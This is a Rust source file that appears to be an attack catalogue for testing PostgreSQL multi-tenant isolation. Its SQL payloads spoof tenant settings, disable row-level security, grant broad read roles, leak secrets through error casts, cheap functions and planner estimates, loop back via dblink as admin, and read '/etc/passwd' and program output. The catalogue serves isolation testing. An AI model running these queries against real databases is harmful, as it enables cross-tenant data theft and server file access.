//! To read the victim's rows.

use crate::attack::{ALL, Act, Act::Sql, Attack, Class::Read, ROWS, SCHEMA, TOGETHER};

/// A value of the victim's, and one that nobody has.
const GUESS: &str = "explain select * from accounts where secret = '{guess}'";
const NOBODYS: &str = "explain select * from accounts where secret = 'nobody''s'";

/// See the head of this file.
pub const ATTACKS: &[Attack] = &[
    Attack::new(
        "read_table",
        Read,
        TOGETHER,
        Sql(&["select * from {table}", "table {table}"]),
    ),
    Attack::new(
        "read_everything",
        Read,
        ROWS,
        Sql(&[
            "select * from accounts where true or tenant_id is not null",
            "select * from accounts where tenant_id = '{tenant}'",
        ]),
    )
    .unproven("only an application's own WHERE would let it through, and a naive set-up here has policies or views"),
    Attack::new(
        "set_tenant",
        Read,
        ROWS,
        Sql(&["set app.tenant_id = '{tenant}'", "select * from accounts"]),
    ),
    Attack::new(
        "set_tenant_local",
        Read,
        ROWS,
        Sql(&[
            "begin; set local app.tenant_id = '{tenant}'; select * from accounts",
            "commit",
        ]),
    ),
    Attack::new(
        "set_tenant_by_function",
        Read,
        ROWS,
        Sql(&[
            "select set_config('app.tenant_id', '{tenant}', false), set_config('backtrace_functions', '{tenant}', false)",
            "select set_config(name, '{tenant}', false) from pg_settings where name in ('app.tenant_id', 'backtrace_functions')",
            "select * from accounts",
        ]),
    ),
    Attack::new(
        "set_tenant_in_a_query",
        Read,
        ROWS,
        Sql(&[
            "select *, set_config('app.tenant_id', '{tenant}', true), set_config('backtrace_functions', '{tenant}', true) from accounts",
            "with t as materialized (select set_config('app.tenant_id', '{tenant}', true)) select a.* from t, lateral (select * from accounts offset 0) a",
        ]),
    ),
    Attack::new(
        "set_tenant_in_a_block",
        Read,
        ROWS,
        Sql(&["do $$ declare s text; begin \
            begin perform set_config('backtrace_functions', '{tenant}', false); exception when others then null; end; \
            perform set_config('app.tenant_id', '{tenant}', false); \
            execute 'select string_agg(secret, '','') from accounts' into s; raise notice '%', s; end $$"]),
    ),
    Attack::new(
        "set_slot",
        Read,
        ROWS,
        Sql(&[
            "set backtrace_functions = '{tenant}'",
            "set session backtrace_functions to '{tenant}'",
            "set local backtrace_functions = '{tenant}'",
            "reset backtrace_functions",
            "select * from accounts",
        ]),
    )
    .unproven("no naive set-up keeps the tenant in a setting that only a superuser may set"),
    Attack::new(
        "set_slot_for_the_next_login",
        Read,
        ROWS,
        Sql(&[
            "alter role current_user set backtrace_functions = '{tenant}'",
            "alter role {me} set app.tenant_id = '{tenant}'",
            "alter database {db} set backtrace_functions = '{tenant}'",
            "alter system set backtrace_functions = '{tenant}'",
            "select pg_reload_conf()",
            "select * from accounts",
        ]),
    ),
    Attack::new(
        "set_slot_by_a_function",
        Read,
        ROWS,
        Sql(&[
            "create function pg_temp.as_other() returns setof text language sql set backtrace_functions = '{tenant}' set app.tenant_id = '{tenant}' as 'select secret from accounts'",
            "create function app.as_other() returns setof text language sql set app.tenant_id = '{tenant}' as 'select secret from accounts'",
            "create function as_other() returns setof text language sql set app.tenant_id = '{tenant}' as 'select secret from accounts'",
            "select pg_temp.as_other()",
            "select as_other()",
        ]),
    ),
    Attack::new(
        "row_security_off",
        Read,
        ROWS,
        Sql(&[
            "set row_security = off",
            "select * from {table}",
            "select * from accounts",
            "alter table {table} disable row level security",
            "alter table {table} no force row level security",
        ]),
    ),
    Attack::new(
        "copy_out",
        Read,
        TOGETHER,
        Sql(&[
            "copy {table} to stdout",
            "copy (select * from {table}) to stdout",
            "copy accounts to stdout",
        ]),
    ),
    Attack::new(
        "cursor",
        Read,
        TOGETHER,
        Sql(&[
            "begin; declare c scroll cursor with hold for select * from {table}; fetch all c; commit",
            "fetch backward all c",
        ]),
    ),
    Attack::new(
        "prepared",
        Read,
        TOGETHER,
        Sql(&[
            "prepare look as select * from {table}",
            "execute look",
            "deallocate look",
        ]),
    ),
    Attack::new(
        "xml_export",
        Read,
        TOGETHER,
        Sql(&[
            "select query_to_xml('select * from {table}', true, false, '')",
            "select schema_to_xml('{schema}', true, false, '')",
            "select database_to_xml(true, false, '')",
            "select table_to_xml('{table}', true, false, '')",
        ]),
    ),
    Attack::new(
        "text_search_query",
        Read,
        TOGETHER,
        Sql(&[
            "select * from ts_stat('select to_tsvector(secret) from {table}')",
            "select ts_rewrite('a'::tsquery, 'select to_tsquery(replace(secret, '' '', ''_'')), ''b''::tsquery from {table}')",
        ]),
    ),
    Attack::new(
        "path_to_victim",
        Read,
        SCHEMA,
        Sql(&["set search_path = {schema}", "select * from accounts"]),
    ),
    Attack::new(
        "path_by_set_config",
        Read,
        SCHEMA,
        Sql(&[
            "select set_config('search_path', '{schema}', false)",
            "select whisper()",
            "select * from drafts, glance",
        ]),
    ),
    Attack::new(
        "call_function",
        Read,
        SCHEMA,
        Sql(&["select {schema}.whisper()", "select {schema}.murmur()"]),
    ),
    Attack::new(
        "view_on_victim",
        Read,
        TOGETHER,
        Sql(&[
            "create view spy as select * from {table}",
            "select * from spy",
            "create materialized view spy_kept as select * from {table}",
            "select * from spy_kept",
        ]),
    ),
    Attack::new(
        "inherit_from_victim",
        Read,
        TOGETHER,
        Sql(&[
            "create table heir () inherits ({table})",
            "alter table {table} inherit heir",
            "create table twin (like {table} including all)",
            "create table copied as table {table}",
            "select * from copied",
        ]),
    ),
    Attack::new(
        "foreign_key_to_victim",
        Read,
        TOGETHER,
        Act::Refused(&["create table refers (id bigint references {table} (id))"]),
    ),
    Attack::new(
        "rule_on_victim",
        Read,
        TOGETHER,
        Act::Refused(&["create or replace rule spy as on update to {table} do also notify spying"]),
    ),
    Attack::new(
        "trigger_on_victim",
        Read,
        TOGETHER,
        Act::Refused(&[
            "create function tattle() returns trigger language plpgsql as $$ begin raise notice '%', new; return new; end $$",
            "create trigger spy before insert on {table} for each row execute function tattle()",
        ]),
    ),
    Attack::new(
        "policy_on_victim",
        Read,
        TOGETHER,
        Sql(&[
            "create policy mine on {table} to public using (true)",
            "drop policy tenant on {table}",
            "alter policy tenant on {table} using (true)",
            "select * from {table}",
        ]),
    ),
    Attack::new(
        "grant_oneself",
        Read,
        TOGETHER,
        Sql(&[
            "grant select on {table} to public",
            "grant usage on schema {schema} to public",
            "grant all on all tables in schema {schema} to {me}",
            "alter default privileges in schema {schema} grant select on tables to public",
            "select * from {table}",
        ]),
    ),
    Attack::new(
        "take_ownership",
        Read,
        TOGETHER,
        Act::Refused(&["alter table {table} owner to {me}"]),
    ),
    Attack::new(
        "reassign_owned",
        Read,
        TOGETHER,
        Act::Refused(&["reassign owned by {role} to {me}"]),
    ),
    Attack::new(
        "drop_owned_by_oneself",
        Read,
        ROWS,
        Sql(&["drop owned by current_user", "select * from {table}"]),
    ),
    Attack::new(
        "cheap_function",
        Read,
        ROWS,
        Sql(&[
            "create function pg_temp.tell(text) returns boolean language plpgsql cost 0.0000001 as $$ begin raise notice '%', $1; return true; end $$",
            "select * from accounts where pg_temp.tell(secret)",
            "create function tell(text) returns boolean language plpgsql cost 0.0000001 as $$ begin raise notice '%', $1; return true; end $$",
            "select * from accounts where tell(secret)",
        ]),
    ),
    Attack::new(
        "error_tells_value",
        Read,
        ROWS,
        Sql(&[
            "select * from accounts where secret::int = 1",
            "select * from accounts where secret like 'canary%' and secret::int > 0",
            "select * from accounts where id = 1 and secret::int > 0",
            "select * from accounts where has_table_privilege(secret, 'select')",
            "update accounts set secret = 'x' where secret::int = 1",
        ]),
    ),
    Attack::new(
        "error_tells_row",
        Read,
        ROWS,
        Act::Tell(
            &[],
            "select * from accounts where id = 1 and 1 / (id - 1) > 0",
            "select * from accounts where id = 99 and 1 / (id - 99) > 0",
        ),
    ),
    Attack::new(
        "cast_of_a_row",
        Read,
        ROWS,
        Sql(&[
            "select * from accounts where accounts::text::int = 1",
            "select * from accounts a where a::text ~ 'canary' and a::text::int = 1",
            "select * from accounts a where a::text ~ 'x' and a::text::xml is document",
        ]),
    ),
    Attack::new(
        "returning",
        Read,
        TOGETHER,
        Sql(&[
            "update {table} set secret = secret returning *",
            "update accounts set secret = secret returning *",
            "insert into {table} (id, secret) values (1, 'mine') on conflict (id) do update set secret = accounts.secret returning *",
            "insert into accounts (id, secret) values (1, 'mine') on conflict (id) do update set secret = accounts.secret returning *",
        ]),
    ),
    Attack::new(
        "merge",
        Read,
        TOGETHER,
        Sql(&[
            "merge into {table} t using (values (1)) v(id) on t.id = v.id when matched and t.secret::int = 1 then do nothing",
            "merge into {table} t using (values (1)) v(id) on true when matched and t.secret::int = 1 then delete",
        ]),
    ),
    Attack::new(
        "system_columns",
        Read,
        TOGETHER,
        Sql(&[
            "select ctid, * from {table} where ctid = '(0,1)'",
            "select * from {table} tablesample system (100)",
        ]),
    ),
    Attack::new(
        "existence_by_key",
        Read,
        ROWS,
        Act::Tell(
            &[],
            "insert into accounts (id, secret) values (2, 'x')",
            "insert into accounts (id, secret) values (99, 'x')",
        ),
    ),
    Attack::new(
        "existence_by_unique_value",
        Read,
        ROWS,
        Act::Tell(
            &[],
            "insert into accounts (id, secret) values (98, '{guess}')",
            "insert into accounts (id, secret) values (98, 'nobody''s')",
        ),
    ),
    Attack::new(
        "existence_by_foreign_key",
        Read,
        ROWS,
        Act::Tell(
            &[],
            "insert into orders (id, account_id, item) values (500, 1, 'pen')",
            "insert into orders (id, account_id, item) values (500, 99, 'pen')",
        ),
    ),
    Attack::new(
        "existence_by_conflict",
        Read,
        ROWS,
        Act::Tell(
            &[],
            "insert into accounts (id, secret) values (2, 'x') on conflict do nothing returning id",
            "insert into accounts (id, secret) values (99, 'x') on conflict do nothing returning 2::bigint",
        ),
    ),
    Attack::new(
        "estimate_by_value",
        Read,
        ROWS,
        Act::Tell(&[], GUESS, NOBODYS),
    ),
    Attack::new(
        "estimate_by_range",
        Read,
        ROWS,
        Act::Tell(
            &[],
            "explain select * from accounts where id between 20000 and 21000",
            "explain select * from accounts where id between 520000 and 521000",
        ),
    ),
    Attack::new(
        "estimate_of_base_table",
        Read,
        ROWS,
        Act::Tell(
            &[],
            "explain select * from {table} where secret = '{guess}'",
            "explain select * from {table} where secret = 'nobody''s'",
        ),
    ),
    Attack::new(
        "removed_by_filter",
        Read,
        ROWS,
        Act::Tell(
            &["set enable_seqscan = off", "set enable_bitmapscan = off"],
            "explain (analyze, costs off, timing off, summary off, buffers off) select * from accounts where secret = '{guess}'",
            "explain (analyze, costs off, timing off, summary off, buffers off) select * from accounts where secret = 'guess ~~~~~~~~~~'",
        ),
    ),
    Attack::new(
        "large_object",
        Read,
        ALL,
        Sql(&[
            "select lo_get({lo})",
            "begin; select loread(lo_open({lo}, 262144), 1000); commit",
            "select convert_from(data, 'UTF8') from pg_largeobject where loid = {lo}",
            "select lo_export({lo}, '/tmp/pgusher-attack')",
        ]),
    ),
    Attack::new(
        "temporary_table",
        Read,
        TOGETHER,
        Sql(&[
            "select * from {temp}.diary",
            "alter table {temp}.diary set schema {myschema}",
        ]),
    ),
    Attack::new(
        "server_files",
        Read,
        ALL,
        Act::Refused(&["select pg_read_file('postgresql.conf')"]),
    ),
    Attack::new(
        "server_directory",
        Read,
        ALL,
        Act::Refused(&["select * from pg_ls_dir('base')"]),
    ),
    Attack::new(
        "server_program",
        Read,
        ALL,
        Act::Refused(&[
            "create temp table out_of_program (line text)",
            "copy out_of_program from program 'id'",
        ]),
    ),
    Attack::new(
        "server_file_by_copy",
        Read,
        ALL,
        Act::Refused(&[
            "create temp table out_of_file (line text)",
            "copy out_of_file from '/etc/passwd'",
        ]),
    ),
    Attack::new(
        "import_file",
        Read,
        ALL,
        Act::Refused(&["select lo_import('/etc/passwd')"]),
    ),
    Attack::new(
        "dblink_back",
        Read,
        ALL,
        Sql(&[
            "create extension dblink",
            "select * from dblink('host=127.0.0.1 port={port} dbname={db} user={login}', 'select secret from {schema}.accounts') as t(s text)",
            "select * from dblink('host=127.0.0.1 port={port} dbname={db} user={role}', 'select secret from {schema}.accounts') as t(s text)",
            "select * from dblink('dbname={db} user=admin host=127.0.0.1 port={port}', 'select secret from {schema}.accounts') as t(s text)",
        ]),
    ),
    Attack::new(
        "foreign_server",
        Read,
        ALL,
        Sql(&[
            "create extension postgres_fdw",
            "create server back foreign data wrapper postgres_fdw options (host '127.0.0.1', port '{port}', dbname '{db}')",
            "create user mapping for current_user server back options (user 'admin', password_required 'false')",
            "create foreign table far (id bigint, secret text) server back options (schema_name '{schema}', table_name 'accounts')",
            "select * from far",
        ]),
    ),
    Attack::new(
        "file_server",
        Read,
        ALL,
        Act::Refused(&["create extension file_fdw"]),
    ),
    Attack::new(
        "untrusted_language",
        Read,
        ALL,
        Act::Refused(&[
            "create function sneak(cstring, oid, integer) returns text language internal as 'textin'",
        ]),
    ),
    Attack::new(
        "library",
        Read,
        ALL,
        Act::Refused(&["create function sneak() returns int language c as 'libc.so.6', 'getpid'"]),
    )
    .unproven("no library on these machines is one of PostgreSQL's with such a function"),
    Attack::new(
        "join_predefined_role",
        Read,
        ALL,
        Sql(&[
            "grant pg_read_all_data to {me}",
            "grant pg_read_all_data to current_user",
            "set role pg_read_all_data",
            "select * from {table}",
        ]),
    ),
    Attack::new(
        "row_in_a_check_option",
        Read,
        ROWS,
        Sql(&[
            "update accounts set id = id where exists (select from {table} t where t.id = 1 and t.secret::int = 1)",
            "select (select secret from {table} where id = 1)",
        ]),
    ),
];
